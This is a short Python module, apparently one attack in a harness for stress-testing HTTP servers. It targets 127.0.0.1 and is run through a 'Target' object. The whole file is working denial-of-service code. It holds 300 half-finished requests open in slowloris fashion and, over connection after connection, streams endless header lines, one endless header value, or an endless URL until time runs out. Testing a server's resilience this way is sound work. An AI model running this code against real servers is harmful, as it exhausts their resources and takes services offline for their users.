"""One anonymous connection after another sends headers, a header or a URL without end, or half a request."""

import asyncio
import itertools
from typing import Final

from target import Target

HALVES: Final = 300
"""Half requests that are held open at once."""
KINDS: Final = (
    (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n", b"X-A: b\r\n" * 10_000),
    (b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\nX-A: ", b"b" * 80_000),
    (b"GET /", b"a" * 80_000),
)


async def attack(target: Target) -> str:
    """Hold half requests open, and send heads without end meanwhile."""
    held = [await target.connection() for _ in range(HALVES)]
    for _, writer in held:
        writer.write(b"GET / HTTP/1.1\r\nX-A: ")
    sent = connections = 0
    for first, part in itertools.cycle(KINDS):
        if target.is_over():
            break
        _, writer = await target.connection()
        connections += 1
        try:
            writer.write(first)
            while not target.is_over():
                writer.write(part)
                await asyncio.wait_for(writer.drain(), target.remaining() + 1)
                sent += len(part)
        except (OSError, TimeoutError):
            pass
        writer.transport.abort()
    for _, writer in held:
        writer.transport.abort()
    return f"{sent / 1e6:,.1f} MB of heads on {connections:,} connections, {HALVES} half requests held open"
